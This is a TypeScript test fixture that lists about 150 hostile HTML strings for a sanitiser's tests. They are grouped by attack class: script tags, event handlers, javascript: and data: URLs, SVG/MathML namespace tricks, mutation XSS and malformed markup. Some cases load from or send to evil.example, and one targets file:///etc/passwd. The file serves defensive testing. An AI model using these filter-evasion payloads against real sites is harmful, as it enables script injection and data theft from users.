// Markup that tries to run something, by class of attack, for the sanitiser's tests in Node and in a browser.
// The classes follow what the public lists teach (OWASP's filter evasion sheet, the mutation papers); the cases are ours.

/** One attempt. In a browser, a case that ran would call `window.ran()`. */
export interface HostileCase {
	name: string;
	html: string;
}

const call = 'window.ran&&ran()';
const link = (address: string): string => `<p>text <a href="${address}">link</a></p>`;
const named = (group: string, cases: readonly string[]): HostileCase[] =>
	cases.map((html, index) => ({ name: `${group}, ${index + 1}`, html }));

const scripts = named('a script element', [
	`<script>${call}</script>`,
	`<SCRIPT>${call}</SCRIPT>`,
	`<ScRiPt src="//evil.example/x.js"></sCrIpT>`,
	`<script/x>${call}</script/x>`,
	`<scr<script>ipt>${call}</scr</script>ipt>`,
	`<<script>${call}//<</script>`,
	`<script>${call}`,
	`<p>one<script type="module">${call}</script>two</p>`,
	`<script\n>${call}</script\n>`,
	`<script src=data:text/javascript,${call}></script>`,
	`<scr\u0000ipt>${call}</scr\u0000ipt>`,
	`<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`
]);

const handlers = named('an event handler', [
	`<p onclick="${call}">text</p>`,
	`<img src=x onerror=${call}>`,
	`<img src=x OnErRoR="${call}">`,
	`<img/src=x/onerror=${call}>`,
	`<img src="x" onerror\n=\n"${call}">`,
	`<img src='x'onerror='${call}'>`,
	`<img """><img src=x onerror=${call}>">`,
	`<img src=x\u000conerror=${call}>`,
	`<body onload=${call}>text</body>`,
	`<div onpointerover=${call} style="position:fixed;inset:0">text</div>`,
	`<details open ontoggle=${call}><summary>s</summary>text</details>`,
	`<marquee onstart=${call}>text</marquee>`,
	`<input autofocus onfocus=${call}>`,
	`<video><source onerror=${call}></video>`,
	`<audio src=x onerror=${call}></audio>`,
	`<a href="https://a.example" onmouseover=${call}>text</a>`,
	`<p lang="en" onfocus=${call} tabindex=0 autofocus>text</p>`,
	`<td background="x" onclick=${call}>text`,
	`<p on\u0000click="${call}">text</p>`,
	`<p title="a" onclick&#61;"${call}">text</p>`
]);

const addresses = [
	...named(
		'an address that is a program',
		[
			`javascript:${call}`,
			`JaVaScRiPt:${call}`,
			` \n javascript:${call}`,
			`java\tscript:${call}`,
			`java\nscript:${call}`,
			`java&#x09;script:${call}`,
			`java&#10;script:${call}`,
			`java&NewLine;script:${call}`,
			`java&Tab;script&colon;${call}`,
			`&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call}`,
			`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}`,
			`&#0000106avascript:${call}`,
			`\u0001javascript:${call}`,
			`&#1;javascript:${call}`,
			`&#14; javascript:${call}`,
			`java\u0000script:${call}`,
			`javascript&#58;${call}`,
			`javascript://a.example/%0a${call}`,
			`vbscript:msgbox(1)`,
			`livescript:${call}`,
			`data:text/html,<script>${call}</script>`,
			`data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
			`data:image/svg+xml,<svg onload=${call}>`,
			`blob:https://a.example/x`,
			`file:///etc/passwd`,
			`filesystem:https://a.example/temporary/x`,
			`view-source:https://a.example`,
			`//evil.example/`,
			`https://bank.example@evil.example/`,
			`https:/\\evil.example" onclick="${call}`
		].map(link)
	),
	...named('an address elsewhere than in a link', [
		`<img src="javascript:${call}">`,
		`<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
		`<img src=x srcset="javascript:${call} 1x">`,
		`<blockquote cite="javascript:${call}">text</blockquote>`,
		`<form action="javascript:${call}"><button>go</button></form>`,
		`<button formaction="javascript:${call}">go</button>`,
		`<isindex action="javascript:${call}" type=image>`,
		`<table background="javascript:${call}"><tr><td>text</td></tr></table>`,
		`<a href="https://a.example" ping="https://evil.example">text</a>`,
		`<a href="#n-fn-9" aria-label="x">to nothing</a>`,
		`<area shape=rect href="javascript:${call}">`
	])
];

const frames = named('a frame, a plug-in or a form', [
	`<iframe src="javascript:${call}"></iframe>`,
	`<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
	`<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.ran()&gt;">`,
	`<iframe><img src=x onerror=${call}></iframe>`,
	`<object data="javascript:${call}"></object>`,
	`<object data="data:text/html,<script>${call}</script>"></object>`,
	`<embed src="data:image/svg+xml,<svg onload=${call}>">`,
	`<applet code="x.class">text</applet>`,
	`<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
	`<portal src="https://evil.example"></portal>`,
	`<form id=f></form><input form=f name=action>`,
	`<form><input name=parentNode><input name=attributes></form>`,
	`<p id="shyraq-facts">{"page":"settings"}</p>`,
	`<a id="n-x" name="location">text</a>`,
	`<select><option><img src=x onerror=${call}></option></select>`,
	`<textarea></textarea><img src=x onerror=${call}></textarea>`
]);

const styles = named('a style', [
	`<style>*{background:url(https://evil.example)}</style>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<p style="width:expression(${call})">text</p>`,
	`<p style="background:url(javascript:${call})">text</p>`,
	`<p style="behavior:url(x.htc)">text</p>`,
	`<p style="-moz-binding:url(x.xml#y)">text</p>`,
	`<link rel=stylesheet href="javascript:${call}">`,
	`<style><img src="</style><img src=x onerror=${call}>">`,
	`<p class="notice" style="position:fixed">over everything</p>`
]);

const heads = named('an element of the head', [
	`<meta http-equiv=refresh content="0;url=javascript:${call}">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
	`<base href="https://evil.example/">`,
	`<title></title><img src=x onerror=${call}></title>`,
	`<link rel=manifest href="https://evil.example/m.json">`,
	`<html onload=${call}><head><script>${call}</script></head>text</html>`,
	`<!doctype html SYSTEM "x" [<!ENTITY e "${call}">]><p>&e;</p>`,
	`<?xml-stylesheet href="javascript:${call}"?><p>text</p>`
]);

const foreign = named('another namespace', [
	`<svg onload=${call}></svg>`,
	`<svg><script>${call}</script></svg>`,
	`<svg><script xlink:href="data:,${call}"></script></svg>`,
	`<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
	`<svg><set attributeName="href" to="javascript:${call}"></set></svg>`,
	`<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"></use></svg>`,
	`<svg><desc><p><style><a title="</style><img src=x onerror=${call}>"></style></desc></svg>`,
	`<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
	`<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
	`<math><a xlink:href="javascript:${call}">x</a></math>`,
	`<math href="javascript:${call}">text</math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`
]);

const mutations = named('markup that changes when read again', [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
	`<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
	`<noscript><style></noscript><img src=x onerror=${call}>`,
	`<template><img src=x onerror=${call}></template>`,
	`<template><template><script>${call}</script></template></template>`,
	`<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
	`<noembed><p title="</noembed><img src=x onerror=${call}>"></noembed>`,
	`<noframes><p title="</noframes><img src=x onerror=${call}>"></noframes>`,
	`<plaintext><img src=x onerror=${call}>`,
	`<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
	`<abbr title="&lt;/abbr&gt;&lt;img src=x onerror=${call}&gt;">text</abbr>`,
	`<abbr title="\`><img src=x onerror=${call}>">text</abbr>`,
	`<p><table><p><a href="https://a.example"><table><a href="javascript:${call}">x</table></a>`,
	`<b><p><b><p><b><p>text</b></p></b></p></b>`,
	`<a href="https://a.example"><div><a href="javascript:${call}">inner</a></div></a>`,
	`<table><tr><td><table><td><img src=x onerror=${call}></table></td></tr></table>`,
	`<select><noscript></select><img src=x onerror=${call}></noscript>`,
	`<ruby><rt><style></rt><img src=x onerror=${call}></style></ruby>`
]);

const broken = named('broken markup', [
	`<!--><img src=x onerror=${call}>-->`,
	`<!--<img src="--><img src=x onerror=${call}>">`,
	`<!-- --!><img src=x onerror=${call}> -->`,
	`<!-><img src=x onerror=${call}>`,
	`<![if !IE]><img src=x onerror=${call}><![endif]>`,
	`</p/onclick=${call}><img src=x onerror=${call}`,
	`<img src=x onerror=${call}//`,
	`<p><a href="https://a.example`,
	`<p>text</p></div></div></article></main><script>${call}</script>`,
	`</body></html><img src=x onerror=${call}>`,
	`</div></article><form action="https://evil.example"><input name=q>`,
	`<%<img src=x onerror=${call}>%>`,
	`\ufeff<script>${call}</script>`,
	`+ADw-script+AD4-ran()+ADw-/script+AD4-`,
	`\u00bcscript\u00be${call}\u00bc/script\u00be`,
	`<img src=x onerror=${call} \ud800>`,
	`<p>\u202e<script>${call}</script>\u202c</p>`,
	`<p lang='en"><img src=x onerror=${call}>'>text</p>`,
	`<p dir="ltr&quot; onclick=&quot;${call}">text</p>`,
	`<custom-element onclick=${call}><slot></slot>text</custom-element>`
]);

/** All attempts; every one must come out of the door without anything that runs, loads or reaches out. */
export const hostileCases: readonly HostileCase[] = [
	...[scripts, handlers, addresses, frames, styles, heads, foreign, mutations, broken].flat()
];
